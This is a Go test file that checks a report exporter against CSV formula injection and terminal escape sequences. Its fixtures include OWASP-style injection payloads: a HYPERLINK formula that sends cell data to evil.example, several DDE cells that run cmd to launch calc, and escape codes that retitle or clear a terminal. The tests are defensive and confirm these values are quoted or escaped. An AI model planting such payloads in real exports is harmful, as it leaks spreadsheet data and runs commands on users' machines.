package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/sawtooth-dev/sawtooth/pipeline"
)

// Cells a spreadsheet runs as formulas (OWASP's CSV injection examples).
const (
	formulaLink = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	formulaDDE  = `+cmd|' /C calc'!A0`
	formulaAt   = `@SUM(1+1)*cmd|' /C calc'!A0`
	formulaMin  = `-2+3+cmd|' /C calc'!A0`
	formulaID   = `=cmd|' /C calc'!A0`
)

func TestFormulaCell(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"equals", formulaLink, "'" + formulaLink},
		{"plus", formulaDDE, "'" + formulaDDE},
		{"at", formulaAt, "'" + formulaAt},
		{"minus then a formula", formulaMin, "'" + formulaMin},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"a lone minus", "-", "'-"},
		{"a negative integer is a number", "-3", "-3"},
		{"a negative decimal is a number", "-0.25", "-0.25"},
		{"an exponent is a number", "-1e-05", "-1e-05"},
		{"a signed number", "+4.5", "+4.5"},
		{"a number with text after it", "-3 stars", "'-3 stars"},
		{"negative infinity is not a plain number", "-Inf", "'-Inf"},
		{"a date", "2026-11-03", "2026-11-03"},
		{"text with = inside", "a=b", "a=b"},
		{"a leading space", " =1+1", " =1+1"},
		{"empty", "", ""},
		{"plain", "TaskFlow", "TaskFlow"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := formulaCell(tt.in); got != tt.want {
				t.Errorf("formulaCell(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// formulaData is a report whose app names and labels are formulas, with
// a pivot by app and month in which some changes are negative numbers.
func formulaData(t *testing.T) *Data {
	t.Helper()
	c := NewCube([]string{"app", "month"})
	add := func(id, app, month, label string, n int) {
		for i := range n {
			c.Add(Review{ID: id + string(rune('a'+i)), Label: label, Confidence: 0.9, Groups: map[string]string{"app": app, "month": month}})
		}
	}
	add("l", formulaLink, "2026-10", "bug", 5)
	add("l", formulaLink, "2026-11", "bug", 2) // change -3
	add("d", formulaDDE, "2026-11", formulaAt, 1)
	add("i", "TaskFlow", "2026-11", "praise", 1)
	c.Sort()
	p, err := c.Pivot(PivotOptions{By: []string{"app", "month"}})
	if err != nil {
		t.Fatal(err)
	}
	return &Data{Cube: c, Pivot: p}
}

// TestCSV_FormulaCells: report --format csv quotes every text cell a
// spreadsheet would run, leaves numbers (a change of -3) as numbers, and
// RawCSV writes the data as it is.
func TestCSV_FormulaCells(t *testing.T) {
	d := formulaData(t)
	for _, tt := range []struct {
		name   string
		render func(*bytes.Buffer, *Data) error
		raw    bool
	}{
		{"guarded", func(b *bytes.Buffer, d *Data) error { return CSV(b, d) }, false},
		{"raw", func(b *bytes.Buffer, d *Data) error { return RawCSV(b, d) }, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := tt.render(&b, d); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&b).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			var cells []string
			for _, r := range rows[1:] {
				cells = append(cells, r...)
			}
			for _, f := range []string{formulaLink, formulaDDE, formulaAt} {
				want := "'" + f
				if tt.raw {
					want = f
				}
				if !slices.Contains(cells, want) {
					t.Errorf("no cell %q", want)
				}
			}
			if !tt.raw {
				for _, c := range cells {
					if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
						t.Errorf("cell %q would run as a formula", c)
					}
				}
			}
			change := slices.Index(rows[0], "change")
			found := false
			for _, r := range rows[1:] {
				found = found || r[change] == "-3"
			}
			if !found {
				t.Errorf("no change of -3 written as a number in:\n%v", rows)
			}
		})
	}
}

// formulaSource is an item whose id, input fields and output hold
// formulas, and whose rating is a negative number, as text and as JSON.
func formulaSource(fn func(FlatItem) error) error {
	return fn(FlatItem{
		Record: recordOf(formulaID, formulaDDE, map[string]string{"app": formulaLink, "rating": "-3", "=col": "x"}),
		Status: "done",
		Outputs: map[string]json.RawMessage{"classify": json.RawMessage(
			`{"label":"@SUM(A1:A9)","confidence":0.9,"delta":-2,"reason":"-1+cmd|' /C calc'!A0"}`)},
	})
}

// TestWriteFlat_FormulaCells: export --format csv|tsv quotes every text
// cell and column name a spreadsheet would run, leaves numbers (-3 from
// the input's text, -2 from a JSON output) as they are; RawCells and
// JSONL keep every value exactly.
func TestWriteFlat_FormulaCells(t *testing.T) {
	for _, format := range []string{FormatCSV, FormatTSV} {
		for _, raw := range []bool{false, true} {
			name := format
			if raw {
				name += " raw"
			}
			t.Run(name, func(t *testing.T) {
				var b bytes.Buffer
				if err := WriteFlat(&b, formulaSource, FlatOptions{Format: format, Stages: []string{"classify"}, RawCells: raw}); err != nil {
					t.Fatal(err)
				}
				r := csv.NewReader(&b)
				if format == FormatTSV {
					r.Comma = '\t'
				}
				rows, err := r.ReadAll()
				if err != nil {
					t.Fatal(err)
				}
				got := map[string]string{}
				for i, c := range rows[0] {
					got[c] = rows[1][i]
				}
				q := "'"
				if raw {
					q = ""
				}
				want := map[string]string{
					"id": q + formulaID, "text": q + formulaDDE, "app": q + formulaLink, "rating": "-3",
					q + "=col": "x", "classify.label": q + "@SUM(A1:A9)", "classify.delta": "-2",
					"classify.reason": q + "-1+cmd|' /C calc'!A0", "classify.confidence": "0.9",
				}
				for col, w := range want {
					if v, ok := got[col]; !ok || v != w {
						t.Errorf("column %q = %q (present %v), want %q; row %v", col, v, ok, w, got)
					}
				}
			})
		}
	}
	t.Run("jsonl is exact", func(t *testing.T) {
		var b bytes.Buffer
		if err := WriteFlat(&b, formulaSource, FlatOptions{Format: FormatJSONL, Stages: []string{"classify"}}); err != nil {
			t.Fatal(err)
		}
		var row map[string]any
		if err := json.Unmarshal(b.Bytes(), &row); err != nil {
			t.Fatal(err)
		}
		if row["id"] != formulaID || row["app"] != formulaLink || row["classify.label"] != "@SUM(A1:A9)" || row["=col"] != "x" {
			t.Errorf("jsonl row changed a value: %v", row)
		}
	})
}

// TestReport_ControlCharactersAnywhere: terminal escapes (a window title
// set by ESC ] 0 ; ... BEL, a screen cleared by ESC [ 2 J) and bidi
// overrides in an app name, a label, an id and a group field reach no
// output as raw bytes: text and Markdown show them as \x1b, the HTML page
// holds no control byte but its own newlines.
func TestReport_ControlCharactersAnywhere(t *testing.T) {
	const (
		title = "\x1b]0;pwned\x07"
		clear = "\x1b[2J"
	)
	d := fixtureData(t)
	app, label, id := "Evil"+title+"App", "bug"+clear+"\u202e", "r7"+clear
	d.Tally.Fold(id, pipelineFact(label, app, "2026-11"), +1)
	d.Cube.Add(Review{ID: id, Label: label, Confidence: 1, Groups: map[string]string{"app": app, "month": "2026-11"}, Text: "quoted " + title})
	d.Cube.Sort()
	p, err := d.Cube.Pivot(PivotOptions{By: []string{"app", "month"}, Window: d.Window})
	if err != nil {
		t.Fatal(err)
	}
	d.Pivot = p
	for _, tt := range []struct {
		name   string
		render func(*bytes.Buffer, *Data) error
		allow  string // control bytes the format itself writes
		want   []string
	}{
		{"text", func(b *bytes.Buffer, d *Data) error { return Text(b, d) }, "\n", []string{`Evil\x1b]0;pwned\x07App`, `r7\x1b[2J`}},
		{"markdown", func(b *bytes.Buffer, d *Data) error { return Markdown(b, d) }, "\n", []string{`Evil\\x1b\]0;pwned\\x07App`}},
		{"html", func(b *bytes.Buffer, d *Data) error { return HTML(b, d) }, "\n", []string{`Evil\x1b]0;pwned\x07App`, `r7\x1b[2J`, `bug\x1b[2J\u202e`}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := tt.render(&b, d); err != nil {
				t.Fatal(err)
			}
			out := b.String()
			for i, r := range out {
				if (unsafeRune(r) || r == '\t') && !strings.ContainsRune(tt.allow, r) {
					t.Fatalf("raw %U at byte %d: …%q…", r, i, out[max(0, i-40):min(len(out), i+40)])
				}
			}
			for _, w := range tt.want {
				if !strings.Contains(out, w) {
					t.Errorf("output lacks %q", w)
				}
			}
		})
	}
}

func pipelineFact(label, app, month string) pipeline.Fact {
	return pipeline.Fact{Label: label, Groups: map[string]string{"app": app, "month": month}}
}
